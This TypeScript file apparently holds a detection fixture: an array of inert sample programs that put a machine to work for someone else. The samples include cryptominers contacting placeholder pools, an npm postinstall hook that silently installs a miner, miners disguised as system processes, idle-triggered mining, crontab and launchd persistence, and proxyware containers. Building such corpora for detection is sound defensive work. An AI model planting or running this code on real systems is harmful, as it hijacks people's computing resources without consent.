/** Programs that lend the machine to somebody, each by other means. Inert: reserved names. */
export const LENDING: readonly [string, string][] = [
  [
    "work.rb",
    "require 'socket'\nrequire 'json'\nrequire 'digest'\nsock = TCPSocket.new('jobs.example', 8332)\nsock.puts({ id: 1, method: 'mining.authorize', params: ['acct.w1', 'x'] }.to_json)\nwhile (line = sock.gets)\n  job = JSON.parse(line)['params'] or next\n  (0..0xffffffff).each do |i|\n    h = Digest::SHA256.digest(Digest::SHA256.digest([job[1]].pack('H*') + [i].pack('V')))\n    next unless h.reverse.unpack1('H*').start_with?('00000')\n    sock.puts({ id: 2, method: 'mining.submit', params: ['acct.w1', job[0], i] }.to_json)\n    break\n  end\nend\n",
  ],
  [
    "work.pl",
    "use IO::Socket::INET; use JSON::PP; use Digest::SHA qw(sha256_hex);\nmy $s = IO::Socket::INET->new(PeerAddr => 'tasks.example', PeerPort => 9999) or exit;\nprint $s encode_json({ op => 'hello', who => 'acct-77' }), \"\\n\";\nwhile (my $l = <$s>) {\n  my $t = decode_json($l);\n  my $i = $t->{from};\n  $i++ until sha256_hex($t->{data} . $i) lt $t->{max};\n  print $s encode_json({ op => 'found', id => $t->{id}, n => $i }), \"\\n\";\n}\n",
  ],
  [
    "work.php",
    "<?php\nfunction burn($seed, $bits) {\n  $i = 0;\n  do { $h = hash('sha256', $seed . $i++); } while (substr($h, 0, $bits) !== str_repeat('0', $bits));\n  return $i - 1;\n}\nwhile (true) {\n  $t = json_decode(file_get_contents('https://tasks.example/next?u=acct77'), true);\n  $n = burn($t['seed'], $t['bits']);\n  file_get_contents('https://tasks.example/done?id=' . $t['id'] . '&n=' . $n);\n}\n",
  ],
  [
    "package.json",
    '{\n  "name": "tidy-helper",\n  "version": "1.0.0",\n  "scripts": { "postinstall": "npx --yes xmr-miner-lite --pool pool.example:3333 --wallet 48example &" }\n}\n',
  ],
  [
    "plug.ts",
    'import { cpus } from "node:os";\nimport { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";\nimport { createHash } from "node:crypto";\nif (isMainThread) {\n  for (const _ of cpus().slice(1)) {\n    const w = new Worker(__filename, { workerData: { url: "https://units.example" } });\n    w.unref();\n  }\n} else {\n  const { url } = workerData;\n  for (;;) {\n    const u = await (await fetch(`${url}/unit`)).json();\n    let c = u.start;\n    while (BigInt("0x" + createHash("sha256").update(u.head + c).digest("hex")) > BigInt(u.ceiling)) c++;\n    await fetch(`${url}/unit/${u.id}`, { method: "PUT", body: String(c) });\n  }\n}\n',
  ],
  [
    "hash.go.sh",
    '#!/bin/sh\nwhile :; do\n  t=$(curl -s https://tasks.example/t?u=acct)\n  id=${t%%:*}; d=${t#*:}\n  n=0\n  while :; do\n    h=$(printf \'%s%s\' "$d" "$n" | sha256sum)\n    case $h in 00000*) break ;; esac\n    n=$((n+1))\n  done\n  curl -s -d "id=$id&n=$n" https://tasks.example/r\ndone\n',
  ],
  [
    "deno.ts",
    'const conn = await Deno.connect({ hostname: "jobs.example", port: 3032 });\nconst enc = new TextEncoder();\nawait conn.write(enc.encode(JSON.stringify({ id: 1, method: "login", params: { login: "48example", pass: "x", agent: "deno/1" } }) + "\\n"));\nconst wasm = await WebAssembly.instantiate(await Deno.readFile("./rx.wasm"));\nfor await (const chunk of conn.readable) {\n  const job = JSON.parse(new TextDecoder().decode(chunk));\n  const r = (wasm.instance.exports.scan as any)(job.params.blob, job.params.target);\n  await conn.write(enc.encode(JSON.stringify({ id: 2, method: "submit", params: { job_id: job.params.job_id, nonce: r } }) + "\\n"));\n}\n',
  ],
  [
    "chia.sh",
    '#!/bin/sh\npip install -q chia-blockchain\nchia init && chia keys add -f ./.k\nchia plots create -k 32 -n 10 -t "$HOME/.cache/p" -d "$HOME/.cache/p" -f farmerkeyexample -c contractaddrexample &\n',
  ],
  [
    "storj.sh",
    "#!/bin/sh\ndocker run -d --restart unless-stopped -p 28967:28967 -e WALLET=0x0000000000000000000000000000deadbeef0000 -e EMAIL=x@mail.example -e STORAGE=2TB storjlabs/storagenode:latest\n",
  ],
  [
    "req.py",
    'from concurrent.futures import ProcessPoolExecutor\nimport http.client, json, hashlib, itertools, os\ndef ask(m, p, b=None):\n    c = http.client.HTTPSConnection("coord.example"); c.request(m, p, b and json.dumps(b)); return json.loads(c.getresponse().read())\ndef part(a):\n    seed, off, step, want = a\n    for i in itertools.count(off, step):\n        if hashlib.scrypt(str(i).encode(), salt=seed.encode(), n=1024, r=1, p=1, dklen=32).hex() < want:\n            return i\ndef main():\n    n = os.cpu_count()\n    with ProcessPoolExecutor(n) as ex:\n        while True:\n            j = ask("GET", "/j")\n            for i in ex.map(part, [(j["s"], k, n, j["w"]) for k in range(n)]):\n                ask("POST", "/j/" + j["i"], {"i": i, "acct": "a-6"}); break\nmain()\n',
  ],
  [
    "sync.py",
    'import zmq, os, hashlib, msgpack\nctx = zmq.Context(); s = ctx.socket(zmq.DEALER); s.connect("tcp://queue.example:5560")\ns.send(msgpack.packb({"hi": os.uname().nodename, "acct": "a71"}))\nwhile True:\n    piece = msgpack.unpackb(s.recv())\n    v = piece["lo"]\n    while v < piece["hi"]:\n        if hashlib.sha3_256(piece["pre"] + v.to_bytes(8, "little")).digest() <= piece["cap"]:\n            s.send(msgpack.packb({"ok": v, "of": piece["id"]})); break\n        v += 1\n',
  ],
  [
    "sdk.py",
    'import ctypes, pathlib, threading\nlib = ctypes.CDLL(str(pathlib.Path(__file__).with_name("libpacketsdk.so")))\nlib.packet_sdk_set_app_key(b"key-118")\nthreading.Thread(target=lib.packet_sdk_start, daemon=True).start()\n',
  ],
  [
    "solana.sh",
    "#!/bin/bash\ncargo install ore-cli --quiet\nore --rpc https://rpc.example --keypair ~/.config/solana/id.json --priority-fee 1000 mine --cores $(nproc) &\n",
  ],
  [
    "task.py",
    'from celery import Celery\nimport hashlib\napp = Celery("t", broker="amqp://acct7:pw@mq.example:5672//", backend="rpc://")\n@app.task\ndef scan(head, start, stop, ceil):\n    for n in range(start, stop):\n        if int(hashlib.sha256(hashlib.sha256(head + n.to_bytes(4, "little")).digest()).hexdigest(), 16) < ceil:\n            return n\napp.worker_main(["worker", "--concurrency=8", "--loglevel=ERROR"])\n',
  ],
  [
    "boinc.sh",
    "#!/bin/sh\napt-get install -y -qq boinc-client\nboinccmd --project_attach https://grid.example/project 7f3accountkey\nboinccmd --set_run_mode always\n",
  ],
  [
    "c.sh",
    '#!/bin/bash\nIMG=$(echo bWluZXJzL3htcg== | base64 -d)\ndocker run -d --rm --cpus=1.5 --name db-sidecar "$IMG" -o pool.example:3333 -u 48example -p side\n',
  ],
  [
    "d.py",
    'import docker\nc = docker.from_env()\nc.containers.run("reg.example/util/agent:2", command=["--pool", "kas.example:5555", "--wallet", "kaspa:qexample", "--devices", "0"], detach=True, device_requests=[docker.types.DeviceRequest(count=-1, capabilities=[["gpu"]])])\n',
  ],
  [
    "f.ts",
    'import Docker from "dockerode";\nconst d = new Docker();\nconst c = await d.createContainer({ Image: "honeygain/honeygain", Cmd: ["-tou-accept", "-email", "x@mail.example", "-pass", "p", "-device", "d"] });\nawait c.start();\n',
  ],
  [
    "g.ps1",
    '$s = @\'\n[DllImport("user32.dll")] public static extern bool GetLastInputInfo(ref LASTINPUTINFO p);\n\'@\nAdd-Type -MemberDefinition $s -Name U -Namespace W\nfor (;;) {\n  if ((Get-IdleSeconds) -gt 180) { & "$env:ProgramData\\nv\\nvsvc.exe" --server rvn.example:6060 --user RExample.$env:COMPUTERNAME --algo kawpow }\n  Start-Sleep 30\n}\n',
  ],
  [
    "h.vbs.bat",
    '@echo off\necho { "pools":[{"url":"pool.example:443","user":"48example","pass":"x","tls":true}], "cpu":{"max-threads-hint":50}, "donate-level":1 } > "%APPDATA%\\wu\\config.json"\nstart "" /b "%APPDATA%\\wu\\wuauserv.exe"\n',
  ],
  [
    "k.pl",
    'my @a = ("./.t/top", "--url", "pool.example:14444", "--user", "48example", "--pass", "x", "--background");\nfork or exec { $a[0] } @a;\n',
  ],
  [
    "w.py",
    'import os\nm = {"c": "nice -n 19", "b": "~/.local/share/gvfs/gvfsd-meta", "o": "-o relay.example:3333", "u": "-u 48example", "k": "-k --background"}\nos.system(" ".join(m[x] for x in "cbouk"))\n',
  ],
  [
    "turbo.js",
    'import axios from "axios";\nimport { sha3_256 } from "js-sha3";\nconst api = axios.create({ baseURL: "https://tally.example" });\nconst ok = (h, z) => h.slice(0, z) === "0".repeat(z);\n(async function run() {\n  const { data } = await api.get("/open");\n  let i = Math.floor(Math.random() * 2 ** 32);\n  while (!ok(sha3_256(data.text + i), data.z)) i++;\n  await api.post("/close", { i, ref: "acct-2" });\n  setImmediate(run);\n})();\n',
  ],
  [
    "launch.plist",
    '<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.example.mdsync</string>\n<key>ProgramArguments</key><array><string>/Users/Shared/.md/mdsync</string><string>-o</string><string>p.example:443</string><string>-u</string><string>k8</string><string>-k</string></array>\n<key>RunAtLoad</key><true/><key>LowPriorityIO</key><true/></dict></plist>\n',
  ],
  [
    "crontab",
    "@reboot nice -n 19 /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n*/15 * * * * pgrep -x kv || /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n",
  ],
  [
    "psn.ps1",
    "docker run -d --name ps --restart always -e CID=abc packetstream/psclient:latest\ndocker run -d --name pp -e P2P_EMAIL=x@mail.example peer2profit/peer2profit_x86_64\n",
  ],
  [
    "s.pl",
    "use LWP::UserAgent; use Digest::SHA 'sha256_hex'; use JSON;\nmy $u = LWP::UserAgent->new;\nwhile (1) {\n  my $t = decode_json($u->get('https://units.example/t')->content);\n  for (my $i = 0; ; $i++) {\n    if (substr(sha256_hex($t->{d} . $i), 0, $t->{k}) eq '0' x $t->{k}) { $u->post('https://units.example/r', { id => $t->{id}, i => $i }); last }\n  }\n}\n",
  ],
];
